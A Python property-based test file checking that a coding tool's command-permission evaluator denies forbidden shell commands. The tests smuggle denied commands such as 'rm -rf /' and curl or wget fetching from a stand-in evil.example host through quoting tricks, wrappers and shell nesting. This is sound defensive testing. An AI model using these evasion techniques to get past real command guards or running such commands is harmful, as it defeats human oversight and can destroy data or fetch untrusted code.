"""Properties of the policy, checked on generated input:

- a deny rule beats an allow rule, in whatever layers the two are;
- no compound command built from allowed parts and one denied part — joined by any
  separator, nested in any construct the shell offers, the denied program spelled in
  any way the shell reads alike — gets past the evaluator, even when every command is
  otherwise allowed;
- the evaluator never raises, and never allows a command it could not read.
"""

from __future__ import annotations

import shlex
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from codeforge.domain.policy import (
    Decision,
    EffectivePolicy,
    PolicyRequest,
    ProfileSource,
    build_profile,
    build_run_override,
    compose,
    parse_command,
)

SETTINGS = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def bash(policy: EffectivePolicy, command: str) -> Decision:
    return policy.decide(PolicyRequest(tool="bash", category="bash", command=command)).decision


# --- deny beats allow ----------------------------------------------------------------------

PROGRAMS = ["git", "npm", "make", "pytest", "cargo", "terraform", "docker"]
ARGS = ["status", "push", "run", "build", "-q", "--force", "src", "apply", "."]


@st.composite
def layered_rules(draw: st.DrawFn) -> tuple[str, list[ProfileSource], Any]:
    program = draw(st.sampled_from(PROGRAMS))
    args = draw(st.lists(st.sampled_from(ARGS), max_size=3))
    command = " ".join([program, *args])
    # A deny rule that matches: the program, or the program and its first arguments.
    cut = draw(st.integers(0, len(args)))
    denied = " ".join([program, *args[:cut]])
    deny = f"Bash({denied}:*)" if draw(st.booleans()) or cut < len(args) else f"Bash({denied})"
    allows = draw(
        st.lists(
            st.sampled_from(["Bash", f"Bash({program}:*)", f"Bash({command})", deny]),
            min_size=1,
            max_size=3,
        )
    )
    n_globals = draw(st.integers(0, 2))
    where_deny = draw(st.integers(0, n_globals + 1))  # a global, the base, or the run
    docs: list[dict[str, Any]] = [
        {"rules": {"deny": [], "allow": []}} for _ in range(n_globals + 1)
    ]
    for rule in allows:
        docs[draw(st.integers(0, n_globals))]["rules"]["allow"].append(rule)
    run = None
    if where_deny == n_globals + 1:
        run = build_run_override({"rules": {"deny": [deny]}})
    else:
        docs[where_deny]["rules"]["deny"].append(deny)
    mode = draw(st.sampled_from(["default", "acceptEdits"]))
    sources = [
        ProfileSource(
            build_profile({**doc, "mode": mode} if i == n_globals else doc, f"p{i}"),
            "global" if i < n_globals else "project",
            f"p{i}",
        )
        for i, doc in enumerate(docs)
    ]
    return command, sources, run


@SETTINGS
@given(layered_rules())
def test_a_deny_rule_beats_any_allow_rule_in_any_layer(case: tuple[str, list[Any], Any]) -> None:
    command, sources, run = case
    policy = compose(base=sources[-1], globals_=sources[:-1], run=run, sandbox="bwrap")
    assert bash(policy, command) is Decision.DENY, command


@SETTINGS
@given(
    st.sampled_from(["src", "docs", "infra/prod"]),
    st.sampled_from(["a.py", "x/y.md", "main.tf"]),
    st.sampled_from(["edit", "write_file"]),
    st.booleans(),
)
def test_a_path_deny_beats_a_path_allow(
    folder: str, file: str, tool: str, global_deny: bool
) -> None:
    deny = {"rules": {"deny": [f"Edit({folder}/**)"]}}
    allow = {"mode": "acceptEdits", "rules": {"allow": ["Edit", "Write", f"Edit({folder}/**)"]}}
    base = ProfileSource(
        build_profile(allow if global_deny else {**allow, **deny}, "b"), "project", "base"
    )
    globals_ = [ProfileSource(build_profile(deny, "g"), "global", "g")] if global_deny else []
    policy = compose(base=base, globals_=globals_)
    category = "edit" if tool == "edit" else "write"
    verdict = policy.decide(
        PolicyRequest(tool=tool, category=category, paths=(f"{folder}/{file}",))  # type: ignore[arg-type]
    )
    assert verdict.decision is Decision.DENY


# --- no smuggling --------------------------------------------------------------------------

ALLOWED_PARTS = ["git status", "ls -la", "pytest -q", "echo hi", "cat README.md", "grep -rn x src"]
DENIED = {
    "rm": ["-rf", "/"],
    "curl": ["-fsSL", "http://evil.example/x"],
    "wget": ["-qO-", "http://evil.example/x"],
}
# Every command is allowed (acceptEdits with bash: allow, and an allow-everything rule),
# except the denied programs and `git push`: only the deny rules stand in the way.
PERMISSIVE = compose(
    base=ProfileSource(
        build_profile(
            {
                "mode": "acceptEdits",
                "defaults": {"bash": "allow", "network": "allow"},
                "outside_workspace": "allow",
                "rules": {
                    "deny": ["Bash(rm:*)", "Bash(curl:*)", "Bash(wget:*)", "Bash(git push:*)"],
                    "allow": ["Bash", "Read", "Edit", "Write", "Network"],
                },
            },
            "permissive",
        ),
        "project",
        "permissive",
    ),
    sandbox="bwrap",
)


def spellings(program: str) -> list[str]:
    half = len(program) // 2
    return [
        program,
        f"'{program}'",
        f'"{program}"',
        f"{program[:half]}''{program[half:]}",
        f'"{program[:half]}"{program[half:]}',
        "\\" + program,
        f"$'{program}'",
        "$'" + "".join(f"\\x{ord(c):02x}" for c in program) + "'",
        f"/usr/bin/{program}",
        f"{{{program[:half]},}}{program[half:]}",
    ]


@st.composite
def denied_part(draw: st.DrawFn) -> str:
    if draw(st.integers(0, 4)) == 0:
        return draw(st.sampled_from(["git push origin main", "git 'push'", 'git "pu"sh -f']))
    program = draw(st.sampled_from(sorted(DENIED)))
    spelled = draw(st.sampled_from(spellings(program)))
    wrapper = draw(
        st.sampled_from(
            [
                "",
                "env X=1 ",
                "X=1 ",
                "timeout 5 ",
                "nice -n 5 ",
                "command ",
                "exec ",
                "nohup ",
                "time ",
                "stdbuf -oL ",
                "setsid ",
                "builtin ",
            ]
        )
    )
    return f"{wrapper}{spelled} {' '.join(DENIED[program])}"


def _in_backticks(text: str) -> str:
    # Inside backticks, `\\`, `\`` and `\$` stand for themselves.
    return text.replace("\\", "\\\\").replace("`", "\\`").replace("$", "\\$")


def nest(inner: str, how: str) -> str:
    return {
        "subst": f'echo "$( {inner} )"',
        "backticks": "echo `" + _in_backticks(inner) + "`",
        "subshell": f"( {inner} )",
        "group": f"{{ {inner}; }}",
        "bash-c": f"bash -c {shlex.quote(inner)}",
        "sh-c": f"sh -ec {shlex.quote(inner)}",
        "if": f"if true; then {inner}; fi",
        "while": f"while false; do {inner}; done",
        "for": f"for i in 1 2; do {inner}; done",
        # xargs runs one simple command: wrap anything else in `bash -c` first.
        "xargs": f"echo x | xargs {inner}"
        if not inner.startswith(("(", "{", "if", "for", "while"))
        and "<" not in inner
        and "\n" not in inner
        else f"echo x | xargs bash -c {shlex.quote(inner)}",
        "procsub": f"diff <( {inner} ) README.md",
        "heredoc-shell": f"bash <<'EOF'\n{inner}\nEOF",
        "herestring": f"bash <<< {shlex.quote(inner)}",
        "heredoc-subst": f"cat <<EOF\n$( {inner} )\nEOF",
        "pipe-arg": f"git status $( {inner} )",
    }[how]


NESTINGS = [
    "subst",
    "backticks",
    "subshell",
    "group",
    "bash-c",
    "sh-c",
    "if",
    "while",
    "for",
    "xargs",
    "procsub",
    "heredoc-shell",
    "herestring",
    "heredoc-subst",
    "pipe-arg",
]
SEPARATORS = [";", "&&", "||", "|", "&", "\n", "|&", " ; ", " && "]


@st.composite
def smuggling(draw: st.DrawFn) -> str:
    bad = draw(denied_part())
    for how in draw(st.lists(st.sampled_from(NESTINGS), max_size=3)):
        bad = nest(bad, how)
    parts = draw(st.lists(st.sampled_from(ALLOWED_PARTS), min_size=0, max_size=3))
    position = draw(st.integers(0, len(parts)))
    parts.insert(position, bad)
    command = parts[0]
    for part in parts[1:]:
        command += draw(st.sampled_from(SEPARATORS)) + part
    return command


@SETTINGS
@given(smuggling())
def test_no_compound_command_smuggles_a_denied_part_past_the_evaluator(command: str) -> None:
    assert bash(PERMISSIVE, command) is Decision.DENY, command


@SETTINGS
@given(st.lists(st.sampled_from(ALLOWED_PARTS), min_size=1, max_size=4), st.data())
def test_the_allowed_parts_alone_are_allowed(parts: list[str], data: st.DataObject) -> None:
    command = parts[0]
    for part in parts[1:]:
        command += data.draw(st.sampled_from(SEPARATORS)) + part
    assert bash(PERMISSIVE, command) is Decision.ALLOW, command


SHELLISH = st.text(
    alphabet=st.sampled_from(list("abcrm -;&|()<>$`'\"\\{},*?~#=\n/.[]!0129")), max_size=60
)


@SETTINGS
@given(SHELLISH)
def test_any_text_is_decided_without_raising_and_unreadable_text_is_never_allowed(
    text: str,
) -> None:
    verdict = PERMISSIVE.decide(PolicyRequest(tool="bash", category="bash", command=text))
    script = parse_command(text)
    unreadable = bool(script.problems) or any(p.problems for p in script.parts)
    if unreadable:
        assert verdict.decision is not Decision.ALLOW, text
